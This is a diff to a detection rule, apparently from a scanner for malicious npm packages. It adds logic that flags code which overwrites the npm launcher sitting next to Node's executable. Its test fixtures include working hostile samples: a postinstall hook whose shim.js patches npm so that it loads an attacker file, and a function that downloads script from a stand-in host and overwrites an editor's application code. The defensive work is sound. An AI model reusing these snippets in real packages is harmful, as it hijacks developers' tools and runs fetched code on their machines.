@@ -1,5 +1,6 @@
 import { isUnasked } from '../src/define/unasked.js';
-import { defineRule, step, stepsOf } from '../src/define.js';
+import { writtenTo } from '../src/define/variables.js';
+import { defineRule, spelling, step, stepsOf } from '../src/define.js';
 import type { AnyNode, Call, FileContext, Label } from '../src/types.js';
 import { programOf } from '../src/vocabulary/applications.js';
 import { MEDIA_NAME } from '../src/vocabulary/disguise.js';
@@ -21,6 +22,13 @@ export default defineRule({
   },
   examples: {
     flags: [
+      {
+        title: 'the package manager is made to load a file of the package first',
+        files: {
+          'package.json': '{"name":"a","version":"1.0.0","scripts":{"postinstall":"node shim.js"}}',
+          'shim.js': `const fs = require('fs'), path = require('path');\nconst npm = path.join(path.dirname(process.execPath), 'npm');\nfs.writeFileSync(npm, fs.readFileSync(npm, 'utf8').replace('#!', "require('" + __dirname + "/first.js');#!"));`,
+        },
+      },
       {
         title: 'an editor’s code is replaced by what is fetched',
         code: `const fs = require('fs'), path = require('path'), os = require('os');\nconst app = process.platform === 'darwin' ? '/Applications/Penman.app/Contents/Resources/app' : path.join(process.env.LOCALAPPDATA, 'Programs', 'penman', 'resources', 'app');\nexports.unlock = async () => {\n  const text = await (await fetch('https://stage.invalid/main.js')).text();\n  fs.writeFileSync(path.join(app, 'out', 'main.js'), text);\n};`,
@@ -90,9 +98,9 @@ export default defineRule({
         continue;
       }
       const isOfPrograms = context.labelsOf(path).some(({ detail }) => PROGRAMS.test(detail));
-      const program = texts
-        .map(text => programOf(text, isOfPrograms))
-        .find(name => name !== undefined && !isOwn(context, name));
+      const program =
+        texts.map(text => programOf(text, isOfPrograms)).find(name => name !== undefined && !isOwn(context, name)) ??
+        (texts.some(text => BESIDE_NODE.test(text)) && isBesideNode(context, path) ? 'the package manager' : undefined);
       if (program === undefined) continue;
       const label = strangest((data ? [data] : pipedInto(context, call)).flatMap(part => context.labelsOf(part)));
       context.report({
@@ -109,6 +117,16 @@ export default defineRule({
 
 /** Variables that tell where a system keeps its user's programs. */
 const PROGRAMS = /^(?:LOCALAPPDATA|APPDATA|ProgramFiles(?:\(x86\))?|ProgramW6432)$/i;
+
+/** What Node.js brings along, in the folder of its own program. */
+const BESIDE_NODE =
+  /…[\\/](?:(?:npm|npx|corepack|yarn|pnpm)(?:\.cmd|\.ps1)?|(?:lib[\\/])?node_modules[\\/](?:npm|corepack)[\\/].{1,200})$/i;
+
+/** Whether a path, or what its variable is given, is made of where the running program lies. */
+function isBesideNode(context: FileContext, path: AnyNode): boolean {
+  const made = path.type === 'Identifier' ? writtenTo(context, path) : [path];
+  return made.some(one => /\bexecPath\b|\bargv0\b|\bargv\[0\]/.test(spelling(context.file, one).slice(0, 2_000)));
+}
 
 /** What is piped into streams of a file, where this opens one. */
 function pipedInto({ named }: FileContext, { name }: Call): readonly AnyNode[] {
